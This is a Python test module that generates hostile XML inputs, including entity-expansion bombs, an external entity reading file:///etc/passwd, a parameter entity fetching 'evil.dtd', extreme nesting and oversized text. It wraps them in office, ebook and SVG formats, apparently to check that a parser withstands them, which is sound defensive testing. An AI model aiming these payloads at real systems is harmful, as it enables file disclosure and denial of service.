"""XML that explodes: entities, depth, attributes, giant text; in each format that is XML."""

from __future__ import annotations

from collections.abc import Callable, Iterator

from tests.core.hostile.kinds import Hostile, of
from tests.core.hostile.packages import KINDS, Kind
from tests.core.hostile.raw_zip import STORED, entry, zipped

SECRET = "/etc/passwd"
_DEEP = 100_000

Attack = Callable[[Kind], str]


def _with_type(kind: Kind, inside: str, body: str) -> str:
    return f"<!DOCTYPE x [{inside}]>" + kind.head + body + kind.tail


def _laughs(kind: Kind) -> str:
    """Ten entities, each ten of the one before: ten thousand million words."""
    lines = ['<!ENTITY l0 "lol">']
    lines += [f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 11)]
    return _with_type(kind, "".join(lines), "&l10;")


def _quadratic(kind: Kind) -> str:
    """One entity of a megabyte, named a thousand times."""
    return _with_type(kind, f'<!ENTITY a "{"a" * 1_000_000}">', "&a;" * 1_000)


def _external(kind: Kind) -> str:
    return _with_type(kind, f'<!ENTITY x SYSTEM "file://{SECRET}">', "before &x; after")


def _endless_entity(kind: Kind) -> str:
    return _with_type(kind, '<!ENTITY x SYSTEM "file:///dev/zero">', "&x;")


def _parameters(kind: Kind) -> str:
    """A definition that is loaded from elsewhere and sends what it finds."""
    outside = '<!ENTITY % d SYSTEM "http://127.0.0.1:9/evil.dtd"> %d;'
    return _with_type(kind, outside, "words")


def _self_entity(kind: Kind) -> str:
    return _with_type(kind, '<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;")


def _deep(kind: Kind) -> str:
    return kind.head + "<a>" * _DEEP + "words" + "</a>" * _DEEP + kind.tail


def _deep_known(kind: Kind) -> str:
    """Deep as above, with the element that the format nests itself."""
    opening, closing = _NESTED[kind.ending]
    return kind.head + opening * 20_000 + "words" + closing * 20_000 + kind.tail


def _within_depth(kind: Kind) -> str:
    """As deep as the parser allows, with the element that the format nests itself."""
    opening, closing = _NESTED[kind.ending]
    times = 230 // opening.count("<")
    return kind.head + opening * times + "words" + closing * times + kind.tail


def _attributes(kind: Kind) -> str:
    many = " ".join(f'a{i}="{i}"' for i in range(_DEEP))
    return kind.head + f"<a {many}>words</a>" + kind.tail


def _spaces_named(kind: Kind) -> str:
    many = " ".join(f'xmlns:n{i}="urn:{i}"' for i in range(20_000))
    return kind.head + f"<a {many}>words</a>" + kind.tail


def _long_text(kind: Kind) -> str:
    """One text of 30 MB, unpacked; the parser's own limit is 10 MB."""
    return kind.head + "word " * 6_000_000 + kind.tail


def _long_name(kind: Kind) -> str:
    return kind.head + f"<{'n' * 5_000_000}/>" + kind.tail


def _siblings(kind: Kind) -> str:
    return kind.head + "<a/>" * 2_000_000 + kind.tail


def _references(kind: Kind) -> str:
    """Characters that XML does not allow, by number."""
    return kind.head + "&#0;&#xFFFFFFFF;&#xD800;&#x110000;" * 1_000 + kind.tail


def _comments(kind: Kind) -> str:
    return kind.head + "<!-- x --><?x y?><![CDATA[z]]>" * 100_000 + kind.tail


def _unclosed(kind: Kind) -> str:
    return kind.head + "<![CDATA[" + "words " * 100_000


def _wrong_encoding(kind: Kind) -> str:
    return '<?xml version="1.0" encoding="UTF-7"?>' + kind.head + "+ADw-a+AD4-" + kind.tail


_NESTED = {
    "docx": (
        "</w:t><w:pict><w:txbxContent><w:p><w:r><w:t>x",
        "</w:t></w:r></w:p></w:txbxContent></w:pict><w:t>",
    ),
    "pptx": ("<p:grpSp><p:sp><p:txBody>", "</p:txBody></p:sp></p:grpSp>"),
    "xlsx": ("<is><t>", "</t></is>"),
    "odt": ("<draw:frame><draw:text-box><text:p>x", "</text:p></draw:text-box></draw:frame>"),
    "epub": ("<table><tr><td>x", "</td></tr></table>"),
}
ATTACKS: tuple[Attack, ...] = (
    _laughs, _quadratic, _external, _endless_entity, _parameters, _self_entity, _deep, _deep_known,
    _within_depth, _attributes, _spaces_named, _long_text, _long_name, _siblings, _references,
    _comments, _unclosed, _wrong_encoding,
)  # fmt: skip


def _package(kind: Kind, attack: Attack) -> bytes:
    """The document; its part is not packed, so that no limit on packing helps."""
    return zipped(kind.entries(part=entry(kind.part, attack(kind), STORED)))


def corpus() -> Iterator[Hostile]:
    """Each attack in each format, and the plain file of the first."""
    for kind in KINDS:
        for attack in ATTACKS:
            name = f"xmls/{attack.__name__.strip('_')}.{kind.ending}"
            yield of(name, lambda kind=kind, attack=attack: _package(kind, attack))
    for attack in (_laughs, _external, _deep):
        name = f"xmls/{attack.__name__.strip('_')}"
        yield of(f"{name}.xml", lambda attack=attack: attack(KINDS[0]).encode())
        yield of(f"{name}.svg", lambda attack=attack: attack(KINDS[4]).encode())
